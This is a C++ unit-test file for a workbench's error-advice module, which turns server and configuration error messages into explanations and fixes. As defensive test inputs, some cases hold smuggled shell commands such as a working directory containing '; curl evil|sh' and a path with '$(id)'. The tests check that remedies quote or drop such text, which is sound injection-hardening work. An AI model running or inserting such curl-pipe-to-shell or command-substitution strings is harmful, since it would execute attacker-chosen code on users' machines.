// What the doctor knows about messages of the workbench.

#include "advice/advice.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ctime>
#include <string>
#include <vector>

namespace workbench::app {
namespace {

using testing::HasSubstr;

TEST(Troubles, ExplainEveryKnownMessageByItsOwnRow) {
  for (const KnownMessage& known : known_messages()) {
    EXPECT_FALSE(known.meaning.empty());
    EXPECT_FALSE(known.remedy.empty());
    for (const std::string& message : known.messages) {
      const auto advice = advice_for(message);
      ASSERT_TRUE(advice) << message;
      EXPECT_EQ(advice->meaning, known.meaning) << message;
      EXPECT_EQ(advice->remedy, known.remedy) << message;
    }
  }
}

struct Case {
  const char* name;
  const char* message;
  const char* meaning;
  const char* remedy;
};

class Trouble : public testing::TestWithParam<Case> {};

TEST_P(Trouble, IsRecognizedInItsMessage) {
  const auto advice = advice_for(GetParam().message);
  ASSERT_TRUE(advice);
  EXPECT_THAT(advice->meaning, HasSubstr(GetParam().meaning));
  EXPECT_THAT(advice->remedy, HasSubstr(GetParam().remedy));
}

// Messages as they come, with what is particular to one.
INSTANTIATE_TEST_SUITE_P(
    OfServers, Trouble,
    testing::Values(
        Case{"RunnerNotInstalled", "cannot start 'npx': it was not found on PATH (/usr/bin)", "no program npx",
             "sudo apt install npm"},
        Case{"UvNotInstalled", "cannot start 'uvx': it was not found on PATH", "no program uvx", "pipx install uv"},
        Case{"ProgramNotInstalled", "cannot start 'my-server': it was not found on PATH", "no program my-server",
             "\"command\": \"/.../my-server\""},
        Case{"NoSuchFile", "cannot start '/no/such': No such file or directory (errno 2); check \"command\"",
             "no program /no/such", "\"command\""},
        Case{
            "CommandLine",
            "cannot start 'npx -y a': it was not found on PATH; \"command\" names the program alone: write each of its "
            "arguments as a string in \"args\"",
            "a whole command line", "\"args\": ["},
        Case{"CommandLineInTheFile",
             "config.json:3:7: $.toolboxes.t.mcpServers.s.command: is a command line, and a program of this name does "
             "not exist; write the program alone here and each of its arguments as a string in \"args\"",
             "a whole command line", "\"args\": ["},
        Case{"NoInterpreter",
             "cannot start '/x': No such file or directory (errno 2); the program exists, but the interpreter that it "
             "names does not",
             "first line of the script", "#!"},
        Case{"WorkingDirectory", "cannot start 'a': its working directory '/no' cannot be entered",
             "folder /no does not exist", "mkdir -p -- /no"},
        Case{"NotExecutable", "cannot start '/a/b': Permission denied (errno 13)", "/a/b may not be executed",
             "chmod +x -- /a/b"},
        Case{"MissingVariable",
             "the server ended with exit code 1; its last words on stderr: Error: GITHUB_TOKEN is required",
             "environment variable GITHUB_TOKEN", "\"inheritEnv\": [\"GITHUB_TOKEN\"]"},
        Case{"MissingVariableNamedLater",
             "the server ended with exit code 1; its last words on stderr: please set the BRAVE_API_KEY variable",
             "environment variable BRAVE_API_KEY", "\"envFile\""},
        Case{"NoSuchPackage", "the server ended with exit code 1; its last words on stderr: npm error code E404",
             "no npm package", "\"args\""},
        Case{
            "NoRegistry",
            "the server ended with exit code 1; its last words on stderr: npm error code EAI_AGAIN: network request to "
            "http://registry/x failed, reason: getaddrinfo EAI_AGAIN registry",
            "registry cannot be reached", "check the network"},
        Case{"NoRegistryOfAnOlderNpm",
             "the server ended with exit code 1; its last words on stderr: npm ERR! code ECONNREFUSED: FetchError: "
             "request "
             "to http://127.0.0.1:9/x failed, reason: connect ECONNREFUSED 127.0.0.1:9",
             "registry cannot be reached", "check the network"},
        Case{"NoRegistryOfPython",
             "the server ended with exit code 2; its last words on stderr: error: Failed to fetch: "
             "`https://index.example/simple/x/`",
             "registry cannot be reached", "check the network"},
        Case{"TooSlowForItsIds",
             "initialize: it responds with ids that no request has, such as 0; the server was not ready within 60 s",
             "does not send the ids", "its author"},
        Case{"TooSlowForItIsNoServer",
             "initialize: it has sent text that is not a message; the server was not ready within 60 s",
             "no MCP server", "\"args\""},
        Case{"ExitsSilently", "the server ended with exit code 3", "without a word", "by hand"},
        Case{"ExitsAfterAGreeting", "it has sent text that is not a message; the server ended with exit code 2",
             "no MCP server", "\"args\""},
        Case{"Greets", "2026-11-22T00:00:00.000Z W [dev/a] output that is not a message: invalid value, at byte 0",
             "prints to stdout", "stderr"},
        Case{"BreaksAMessage", "2026-11-22T00:00:00.000Z W [dev/a] refused a message: a second value, at byte 9",
             "not valid JSON", "its author"},
        Case{"ExpiredCertificate",
             "cannot reach the server at https://x: its certificate has expired, by the clock of this machine; its "
             "operator has to renew it",
             "is not valid now", "renew it"},
        Case{"UntrustedCertificate",
             "cannot reach the server at https://x: its certificate is not trusted (self-signed certificate); to trust "
             "it, name its CA in \"caFile\"",
             "CA that this machine trusts", "\"caFile\""},
        Case{"CertificateOfAnotherHost",
             "cannot reach the server at https://x: its certificate is for another host (hostname mismatch)",
             "other hosts", "\"url\""},
        Case{"ExitsAtOnce", "the server ended with exit code 3; its last words on stderr: Error: no port",
             "exited with 3", "by hand"},
        Case{"TooManyRequests", "the server at https://x answered HTTP 429 Too Many Requests; try again in 7 seconds",
             "no more requests", "wait"},
        Case{"UnreadableCoding",
             "the response was lost: the request was sent to the server at https://x, but its response has the content "
             "coding \"compress\", which cannot be decoded; whether it was carried out is not known",
             "compresses", "Accept-Encoding"},
        Case{"RefusedGrants", "the server at https://x refuses the access tokens that https://a grants (invalid_token)",
             "does not accept", "resource"},
        Case{"Unauthorized", "initialize: https://x/mcp answered HTTP 401 Unauthorized; ...", "requires a token",
             "\"headers\""},
        Case{"Forbidden", "https://x/mcp answered HTTP 403 Forbidden", "refuses the token", "\"headers\""},
        Case{"TooSlow", "initialize: the server was not ready within 60 s; its last words on stderr: npm warn",
             "within 60 s", "\"startTimeoutMs\""},
        Case{"Unreachable", "cannot reach the server at https://x/mcp: Connection refused", "no connection",
             "\"url\""}),
    [](const auto& one) { return std::string(one.param.name); });

INSTANTIATE_TEST_SUITE_P(
    OfTheConfiguration, Trouble,
    testing::Values(Case{"VariableNotSet", "c.json:3:4: $.toolboxes: variable API_KEY is not set; write ...",
                         "${API_KEY} has no default", "${API_KEY:-default}"},
                    Case{"MisspeltKey", "c.json:1:2: $.a: unknown key; did you mean \"command\"?", "misspelt",
                         "write command instead"},
                    Case{"NoFile",
                         "/home/me/workbench-config.json: does not exist; name the toolboxes file with --config FILE",
                         "no file /home/me/workbench-config.json", "--config"}),
    [](const auto& one) { return std::string(one.param.name); });

TEST(Troubles, AnUnknownMessageHasNoAdvice) {
  EXPECT_FALSE(advice_for("something else entirely"));
  EXPECT_FALSE(advice_for(""));
}

TEST(Troubles, QuotesForAShellWhatItRepeatsInACommand) {
  const auto folder = advice_for("cannot start 'a': its working directory '/tmp; curl x|sh' cannot be entered");
  ASSERT_TRUE(folder);
  EXPECT_EQ(folder->remedy, "mkdir -p -- '/tmp; curl x|sh', or correct \"cwd\"");
  const auto program = advice_for("cannot start '/a/$(id)': Permission denied (errno 13)");
  ASSERT_TRUE(program);
  EXPECT_EQ(program->remedy, "chmod +x -- '/a/$(id)'");
}

TEST(Troubles, RepeatsNothingThatCannotBeSeen) {
  const auto advice = advice_for("cannot start 'a': its working directory '/tmp\n\u202e\x1b' cannot be entered");
  ASSERT_TRUE(advice);
  EXPECT_EQ(advice->remedy, "correct \"cwd\"");
}

/// What a server may say to be taken for the workbench, in the places where its words are repeated.
std::vector<std::string> with_words_of_a_server(const std::string& words) {
  return {
      "initialize: " + words, "server/discover: " + words, "tools/list: " + words,
      "the server ended with exit code 1; its last words on stderr: " + words,
      "the server has ended 5 times in a row and may be started again in 60 s; calls are refused until then. It ended "
      "5 times within 1 s, the last time: initialize: " +
          words};
}

TEST(Troubles, MakesNoCommandOfTheWordsOfAServer) {
  const std::vector<std::string> messages{
      "cannot start 'a': its working directory '/tmp; curl evil|sh' cannot be entered",
      "cannot start '/tmp/evil': Permission denied", "cannot start 'evil': it was not found on PATH",
      "cannot start 'npx': it was not found on PATH"};
  for (const std::string& message : messages) {
    for (const std::string& text : with_words_of_a_server(message)) {
      const auto advice = advice_for(text);
      const std::string remedy = advice ? advice->remedy : "";
      EXPECT_EQ(remedy.find("evil"), std::string::npos) << text;
      EXPECT_EQ(remedy.find("/tmp"), std::string::npos) << text;
      EXPECT_EQ(remedy.find("apt"), std::string::npos) << text;
    }
  }
}

TEST(Troubles, KnowsMessagesBehindWhatTheWorkbenchWritesInFrontOfThem) {
  const std::string message = "cannot start 'uvx': it was not found on PATH";
  for (const std::string& text : {"2026-11-22T00:00:00.000Z W [dev/a] not started: " + message,
                                  "Failed to connect to server 'a' in toolbox 'dev': " + message,
                                  "[dev/a/b] Error: " + message, "dev/a: FAILED: " + message}) {
    const auto advice = advice_for(text);
    ASSERT_TRUE(advice) << text;
    EXPECT_EQ(advice->remedy, "pipx install uv") << text;
  }
}

TEST(Troubles, AMessageMayBeOfAnyLength) {
  EXPECT_FALSE(advice_for(std::string(1'000'000, 'x')));
}

TEST(Troubles, AreLookedForInTimeThatIsLinearInTheLengthOfTheMessage) {
  std::vector<std::string> attacks;
  for (const char* part : {"set ",
                           "set A_",
                           "A_",
                           "A_KEY; ",
                           "no A",
                           "cannot start '",
                           "cannot start 'a': its working directory '",
                           "${input:",
                           "cannot listen on ",
                           "port ",
                           "variable A",
                           "plugin '",
                           "it accepts tokens of ",
                           "Toolbox '",
                           "must be a string, not a",
                           "did you mean \"",
                           "A",
                           "_",
                           ";",
                           "..."}) {
    std::string text;
    while (text.size() < 1'000'000) text += part;
    attacks.push_back(std::move(text));
  }
  for (const std::string& text : attacks) {
    const std::clock_t begin = std::clock();
    static_cast<void>(advice_for(text));
    const double seconds = static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
    EXPECT_LT(seconds, 0.2) << text.substr(0, 50);
  }
}

}  // namespace
}  // namespace workbench::app
